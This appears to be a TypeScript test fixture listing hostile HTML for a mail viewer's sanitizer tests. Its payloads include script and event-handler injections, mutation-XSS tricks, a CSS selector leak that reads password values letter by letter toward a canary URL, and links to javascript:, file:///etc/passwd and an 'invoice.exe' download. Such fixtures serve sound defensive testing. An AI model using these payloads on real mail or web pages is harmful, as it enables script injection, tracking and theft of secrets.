/** What a mail may contain to run a script or to tell its sender that it was opened; `C` is the canary's URL. */
export const HOSTILE: Record<string, string> = {
  script: '<script>top.ran = 1; fetch("C/script")</script><script src="C/script.js"></script>',
  'event handlers':
    '<img src=x onerror="fetch(\'C/onerror\')"><body onload="fetch(\'C/onload\')"><svg onload="fetch(\'C/svg\')">',
  image: '<img src="C/open.gif"><img srcset="C/a.png 1x, C/b.png 2x"><input type=image src="C/input">',
  'style sheets':
    '<link rel=stylesheet href="C/a.css"><style>@import "C/b.css"; body { background: url(C/bg.png) }</style>',
  'inline style': '<div style="background-image: url(\'C/inline.png\'); list-style: url(C/list.png)">x</div>',
  font: '<style>@font-face { font-family: f; src: url(C/f.woff2) } * { font-family: f }</style>text',
  frames: '<iframe src="C/frame"></iframe><object data="C/object"></object><embed src="C/embed">',
  'frame with a script': '<iframe srcdoc="<script>fetch(\'C/srcdoc\')</script>"></iframe>',
  media: '<video autoplay poster="C/poster" src="C/video"></video><audio autoplay src="C/audio"></audio>',
  refresh: '<meta http-equiv=refresh content="0;url=C/refresh">',
  form: '<form id=f action="C/form"><button id=b autofocus></button></form><script>document.forms[0].submit()</script>',
  hints:
    '<link rel=dns-prefetch href="//dns.canary.test"><link rel=preconnect href="C"><link rel=prefetch href="C/prefetch"><link rel=preload as=image href="C/preload"><link rel=icon href="C/icon">',
  'prefetch control':
    '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://link.canary.test/">x</a>',
  base: '<base href="C/"><img src="relative.gif">',
  svg: '<svg><image href="C/svg-image"/><use href="C/use#x"/><script>fetch("C/svg-script")</script></svg>',
  background: '<table background="C/table.png"><tr><td background="C/td.png">x</table>',
  'css tricks':
    '<style>@media screen { p { cursor: url(C/cursor), auto } } p { content: url(C/content) }</style><p>x</p>',
  manifest: '<html manifest="C/manifest"><link rel=manifest href="C/m.json">',
  ping: '<a href="#x" ping="C/ping" id=x>x</a>',
  'tag that never ends': '<img src="C/unclosed.gif" alt="<p>x</p>',
  comment: '<!--><img src="C/comment.gif">-->',
  mathml: '<math><mi xlink:href="C/math"><mglyph src="C/glyph"></math>',
  'style sheet that reads a secret letter by letter':
    '<style>input[value^="a"] { background: url(C/leak-a) } input[value^="b"] { background: url(C/leak-b) } input:not([value^="c"]) { --x: url(C/leak-c); background: var(--x) }</style><input value="abc"><input type=password value="b">',
  'style sheet by other ways':
    '<style>@import url(C/i1.css) layer(a) supports(display: grid) screen; @layer b { @import "C/i2.css"; } @namespace url(C/ns); @font-face { font-family: g; src: url(C/g.woff2) format("woff2"), local("x") } p { font-family: g; background: image-set(url(C/s1.png) 1x, "C/s2.png" 2x); mask: url(C/mask.svg#m); filter: url(C/filter.svg#f); clip-path: url(C/clip.svg#c); shape-outside: url(C/shape.png); border-image: url(C/border.png) 1; cursor: image-set("C/cur.png" 1x), auto; } p::before { content: url(C/before.png) } @property --p { syntax: "<url>"; inherits: false; initial-value: url(C/prop) } @supports (display: grid) { @media all { p { list-style-image: url(C/nested.png) } } } @container (min-width: 0) { p { background: -webkit-image-set(url(C/webkit.png) 1x) } } @starting-style { p { background: url(C/start.png) } }</style><p>x</p>',
  'base, twice and nested':
    '<base href="C/one/"><div><base href="C/two/"></div><img src=a.gif><link rel=stylesheet href=b.css>',
  'refresh, written otherwise':
    '<META HTTP-EQUIV="Refresh" CONTENT="0.1; URL=\'C/refresh2\'"><meta http-equiv="refresh" content="0;C/refresh3"><meta http-equiv=refresh content="0;url=javascript:top.ran=1"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'"><meta name=referrer content=unsafe-url>',
  'svg use and animation':
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="C/u.svg#x"/><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>top.ran=1</script></svg>#x"/><animate attributeName=href values="C/anim"/><a><set attributeName=href to="javascript:top.ran=1"/><text>x</text></a><feImage href="C/fe.png"/><filter id=f><feImage xlink:href="C/fe2.png"/></filter><rect filter="url(C/f.svg#f)" fill="url(C/fill.svg#p)" width=9 height=9 /><foreignObject><img src=C/foreign.png></foreignObject><style>@import "C/in-svg.css"; rect { fill: url(C/in-svg#p) }</style><handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">top.ran=1</handler></svg>',
  'mathml and mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=C/mxss1 onerror=top.ran=1&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=C/mxss2 onerror=top.ran=1>"></svg><form><math><mtext></form><form><mglyph><style></math><img src=C/mxss3 onerror=top.ran=1></style></mglyph></form></mtext></math><noscript><p title="</noscript><img src=C/mxss4 onerror=top.ran=1>"></noscript><math href="javascript:top.ran=1"><mi>x</mi></math><maction actiontype="statusline" xlink:href="javascript:top.ran=1">x</maction>',
  'mutation by what the page changes':
    '<a href="#x" target="x" title="&quot;><img src=C/quoted onerror=top.ran=1>">x</a><img src="cid:a&quot; onerror=&quot;top.ran=1" alt="`"><textarea><a target=_top href="C/x"></textarea><img src=C/rcdata onerror=top.ran=1></a></textarea><xmp><base href="C/"></xmp><title><link rel=preload as=image href="C/title"></title><plaintext-x><!--[if IE]><img src="C/ie"><![endif]--><img/src="C/slash"/onerror=top.ran=1><img src=x:x onerror=top.ran=1\u0000>',
  'sets of sources':
    '<picture><source srcset="C/p1.webp 1x, C/p2.webp 2x" type="image/webp"><source media="(min-width:1px)" srcset="C/p3.png"><img srcset="C/p4.png 100w, C/p5.png 200w" sizes="100vw" src="C/p6.png" loading=eager lowsrc="C/low" dynsrc="C/dyn"></picture><video><source src="C/v.mp4"><track default kind=captions src="C/t.vtt"></video><link rel=preload as=image imagesrcset="C/pl.png 1x" href="C/pl2.png"><link rel="icon stylesheet" href="C/both.css"><link rel=modulepreload href="C/m.mjs"><link rel=prerender href="C/pr"><input type=image srcset="C/in.png" src="C/in2.png"><body background="C/body.png">',
  'html as data:':
    '<iframe src="data:text/html,<script>top.ran=1;fetch(\'C/data-frame\')</script>"></iframe><object data="data:text/html,<script>fetch(\'C/data-object\')</script>"></object><embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'fetch(&quot;C/data-embed&quot;)\'/>"><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'C/data-img\'/><script>top.ran=1</script></svg>"><link rel=stylesheet href="data:text/css,body{background:url(C/data-css)}"><portal src="C/portal"></portal><fencedframe src="C/fenced"></fencedframe><frameset><frame src="C/frame2"></frameset>',
  'declarative shadow tree':
    '<div><template shadowrootmode=open><style>@import "C/shadow.css"; :host { background: url(C/shadow.png) }</style><img src="C/shadow-img" onerror="top.ran=1"></template></div><div popover id=p><img src="C/popover"></div><dialog open><iframe src="C/dialog"></iframe></dialog><details open ontoggle="top.ran=1"><summary>x</summary></details><input onfocus="top.ran=1" autofocus><marquee onstart="top.ran=1">x</marquee><video oncanplay="top.ran=1"><source onerror="top.ran=1"></video>',
};

/** What somebody may click in a mail: the attribute `id` of the element, and its HTML. None may change the console's page. */
export const CLICKED: Record<string, string> = {
  top: '<a id=top target="_top" href="C/top">x</a>',
  parent: '<a id=parent target="_parent" href="C/parent">x</a>',
  self: '<a id=self target="_self" href="C/self">x</a>',
  named: '<a id=named target="mayfly" href="C/named">x</a>',
  script: '<a id=script href="javascript:top.ran=1">x</a>',
  'script in a new tab': '<a id=script-blank target="_blank" href="java\tscript:opener.top.ran=1">x</a>',
  form: '<form action="C/form-post" method=post target="_top"><button id=form>x</button></form>',
  'form elsewhere':
    '<form id=f action="C/form-get"></form><button id=form-by form=f formtarget="_top" formaction="C/form-action">x</button>',
  'script of a form': '<form><button id=form-script formaction="javascript:top.ran=1">x</button></form>',
  download: '<a id=download download="invoice.exe" href="data:application/octet-stream,MZ">x</a>',
  'html as data:': '<a id=data href="data:text/html,<script>opener.top.ran=1</script>">x</a>',
  blob: '<a id=blob href="blob:null/0">x</a>',
  'other protocol': '<a id=protocol href="vscode://file/etc/passwd">x</a>',
  file: '<a id=file href="file:///etc/passwd">x</a>',
  'link of an image map':
    '<img usemap="#m" width=40 height=40 id=map src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=default target=_top href="C/area"></map>',
  'link of svg':
    '<svg width=40 height=40 id=svg><a target="_top" href="C/svg-link"><rect width=40 height=40 /></a></svg>',
  'link of mathml': '<math id=math><mtext href="C/math-link">xxx</mtext></math>',
};
